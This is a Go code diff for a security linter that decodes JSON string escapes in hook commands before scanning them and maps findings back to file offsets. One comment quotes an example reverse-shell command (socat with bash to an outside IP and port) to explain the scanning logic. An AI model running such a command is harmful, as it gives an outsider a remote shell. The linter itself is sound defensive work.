@@ -9,8 +9,10 @@ import (
 	"path/filepath"
 	"regexp"
 	"sort"
+	"strconv"
 	"strings"
 	"sync"
+	"unicode/utf8"
 
 	"github.com/skillint/skillint/diag"
 	"github.com/skillint/skillint/formats/yamlfm"
@@ -534,14 +536,75 @@ type cmdPart struct {
 	at  int // offset of the part in text
 	src int // offset of the part in the file
 	n   int // its length in the file
+	// idx, for a part whose JSON escapes were decoded, is the offset in
+	// the file (from src) of each byte of its text.
+	idx []int
+}
+
+// unescapeJSON decodes the escapes of a JSON string's content (a hook's
+// command \"quoted\" for JSON is "quoted" to the shell that runs it), with
+// the offset in b of each byte decoded. It returns b itself (and nil) when
+// it holds no escape.
+func unescapeJSON(b []byte) ([]byte, []int) {
+	if bytes.IndexByte(b, '\\') < 0 {
+		return b, nil
+	}
+	out := make([]byte, 0, len(b))
+	idx := make([]int, 0, len(b))
+	for i := 0; i < len(b); i++ {
+		c := b[i]
+		if c != '\\' || i+1 >= len(b) {
+			out, idx = append(out, c), append(idx, i)
+			continue
+		}
+		var d []byte
+		switch e := b[i+1]; e {
+		case '"', '\\', '/':
+			d = []byte{e}
+		case 'n':
+			d = []byte{'\n'}
+		case 't':
+			d = []byte{'\t'}
+		case 'r':
+			d = []byte{'\r'}
+		case 'b':
+			d = []byte{'\b'}
+		case 'f':
+			d = []byte{'\f'}
+		case 'u':
+			if i+6 <= len(b) {
+				if v, err := strconv.ParseUint(string(b[i+2:i+6]), 16, 32); err == nil {
+					d = utf8.AppendRune(nil, rune(v))
+					for _, x := range d {
+						out, idx = append(out, x), append(idx, i)
+					}
+					i += 5
+					continue
+				}
+			}
+		}
+		if d == nil {
+			out, idx = append(out, c), append(idx, i) // not an escape JSON knows: kept
+			continue
+		}
+		out, idx = append(out, d...), append(idx, i)
+		i++
+	}
+	return out, idx
 }
 
 // commandLine joins cmd's text and its arguments' (each quoted for the
-// shell when it needs it, as secscan.ShellQuote does).
-func commandLine(cmd *model.Skill, args []*model.Skill) cmdLine {
+// shell when it needs it, as secscan.ShellQuote does), the escapes of a
+// JSON string decoded. src is the file.
+func commandLine(src []byte, cmd *model.Skill, args []*model.Skill) cmdLine {
 	var l cmdLine
 	for i, u := range append([]*model.Skill{cmd}, args...) {
-		t := string(u.Body.Text)
+		raw := u.Body.Text
+		var idx []int
+		if u.Body.Start > 0 && u.Body.Start <= len(src) && src[u.Body.Start-1] == '"' {
+			raw, idx = unescapeJSON(raw)
+		}
+		t := string(raw)
 		at := len(l.text)
 		if i > 0 {
 			at++ // the space
@@ -551,7 +614,7 @@ func commandLine(cmd *model.Skill, args []*model.Skill) cmdLine {
 			}
 			t = " " + q
 		}
-		l.parts = append(l.parts, cmdPart{at, u.Body.Start, len(u.Body.Text)})
+		l.parts = append(l.parts, cmdPart{at, u.Body.Start, len(u.Body.Text), idx})
 		l.text = append(l.text, t...)
 	}
 	return l
@@ -571,7 +634,14 @@ func (l cmdLine) at(i int, end bool) int {
 		k = 0
 	}
 	p := l.parts[k]
-	return p.src + min(max(i-p.at, 0), p.n)
+	j := max(i-p.at, 0)
+	if p.idx != nil {
+		if j >= len(p.idx) {
+			return p.src + p.n
+		}
+		return p.src + p.idx[j]
+	}
+	return p.src + min(j, p.n)
 }
 
 // scanOf is the analysis of p's document, run once.
@@ -639,7 +709,7 @@ func runScan(p *rules.Pass) *docScan {
 			// (socat exec:'bash -li' tcp:203.0.113.7:4444 is a reverse
 			// shell only whole); findings are placed back in the part
 			// they fall in.
-			line := commandLine(u, args[u])
+			line := commandLine(src, u, args[u])
 			fs, _ := secscan.ScanParsed(secscan.Input{Src: line.text, Rel: "command.sh"})
 			for _, f := range fs {
 				f.Start, f.End = line.at(f.Start, false), line.at(f.End, true)
